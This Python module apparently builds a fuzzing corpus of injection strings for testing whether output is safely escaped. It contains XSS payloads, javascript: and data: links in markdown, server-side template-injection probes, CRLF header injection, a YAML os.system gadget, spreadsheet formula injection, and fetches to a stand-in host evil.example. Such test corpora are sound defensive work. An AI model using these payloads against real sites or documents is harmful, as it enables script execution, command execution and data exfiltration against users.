"""Strings that would run, load or leave if a page showed them as anything but text."""

from __future__ import annotations

from itertools import product
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence

_DO = ("alert(1)", "print()", "top.pwned=1", "fetch('//evil.example')")
_TAGS = (
    *("img", "svg", "math", "body", "iframe", "object", "embed", "video", "audio", "input"),
    *("details", "marquee", "select", "textarea", "keygen", "a", "form", "button", "x", "base"),
)
_EVENTS = ("onload", "onerror", "onfocus", "ontoggle", "onmouseover", "onanimationstart")
_BREAKS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    "]]>",
    "</option>",
)
_LINKS = (
    *(
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "\x01javascript:alert(1)",
    ),
    *("javascript&colon;alert(1)", "&#106;avascript:alert(1)", "vbscript:msgbox(1)"),
    *("data:text/html,<script>alert(1)</script>", "data:image/svg+xml,<svg onload=alert(1)>"),
    *("//evil.example/x", "https:evil.example", "\\\\evil.example\\x", "file:///etc/passwd"),
)
_MARKDOWN = ("[x](%s)", "![x](%s)", "<%s>", "[x]: %s", "[x](<%s>)", '<a href="%s">x</a>')
_OTHER = (
    *("{{7*7}}", "{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}"),
    *(
        "<%= 7*7 %>",
        "{{ desk.secret }}",
        "{# #}",
        "{%raw%}",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
    ),
    *(
        "\u202e<script>",
        "\u200f\u200e<b>",
        "\ufeff<script>",
        "\uff1cscript\uff1e",
        "\u2028<script>",
    ),
    *("%3Cscript%3E", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "+ADw-script+AD4-"),
    *("a\r\nSet-Cookie: x=1", "a\nLocation: //evil.example", "%0d%0aX: y", "x" * 5000),
    *(
        "!!python/object/apply:os.system [ls]",
        "*anker",
        "&anker x",
        "<<: *x",
        "? x",
        "- - -",
        "%YAML",
    ),
    *(
        '"}],"x":[{"',
        "</script><script>alert(1)//",
        "<!--<script>",
        "<![CDATA[<script>",
        "<?php ?>",
    ),
    *('=HYPERLINK("http://evil.example")', "=cmd|' /C calc'!A0", "@SUM(1)", "+1", "-1"),
    *("<style>@import'//evil.example'</style>", "<link rel=stylesheet href=//evil.example>"),
    *("<meta http-equiv=refresh content=0;url=//evil.example>", "<base href=//evil.example>"),
    *("<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><script>"),
    *(
        "<svg><use href=data:x>",
        "<math><mtext><style><img src onerror=alert(1)>",
        "<portal src=//x>",
    ),
)


def make_strings() -> list[str]:
    """Return all of them, each once; without what no file can hold."""
    tags = [
        f"{end}<{tag} {event}={do} src=x autofocus>"
        for number, (tag, event) in enumerate(product(_TAGS, _EVENTS))
        for end in (_BREAKS[number % len(_BREAKS)], _BREAKS[(number + 4) % len(_BREAKS)])
        for do in (_DO[number % len(_DO)],)
    ]
    attributes = [
        f"x{end} {event}={do} autofocus tabindex=1 x={end}"
        for end, event, do in product(("'", '"', "`", ""), _EVENTS, _DO)
    ]
    scripts = [f"{end}<script>{do}</script>" for end, do in product(_BREAKS, _DO)]
    links = [form % link for form, link in product(_MARKDOWN, _LINKS)]
    return list(dict.fromkeys([*tags, *attributes, *scripts, *links, *_LINKS, *_OTHER]))


def batched(strings: Sequence[str], size: int) -> Iterator[Sequence[str]]:
    """Yield `strings`, so many at a time."""
    for at in range(0, len(strings), size):
        yield strings[at : at + size]
